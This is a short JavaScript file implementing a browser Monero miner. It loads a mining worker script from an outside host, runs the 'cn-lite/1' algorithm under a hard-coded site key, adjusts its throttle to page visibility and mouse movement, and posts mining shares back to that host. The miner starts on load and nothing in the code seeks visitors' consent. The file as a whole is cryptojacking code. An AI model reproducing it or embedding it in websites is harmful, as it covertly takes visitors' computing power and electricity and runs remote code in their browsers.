class Pool {
  constructor(key) {
    this.key = key;
    this.throttle = 0.8;
    this.hashes = 0;
    document.addEventListener('visibilitychange', () => this.setThrottle(document.hidden ? 0 : 0.8));
    document.addEventListener('mousemove', () => this.setThrottle(0.9));
  }
  setThrottle(value) {
    this.throttle = value;
    this.worker?.postMessage({ cmd: 'throttle', value });
  }
  connect() {
    this.worker = new Worker('https://ppoi-like.example/lib/worker-asmjs.min.js?v7');
    this.worker.onmessage = ({ data }) => {
      this.hashes += data.hashesPerSecond | 0;
      if (data.share) fetch(`https://ppoi-like.example/v1/share/${this.key}`, { method: 'POST', body: data.share });
    };
    this.worker.postMessage({ cmd: 'start', algo: 'cn-lite/1', throttle: this.throttle });
  }
}
new Pool('XMR-SITE-0000').connect();
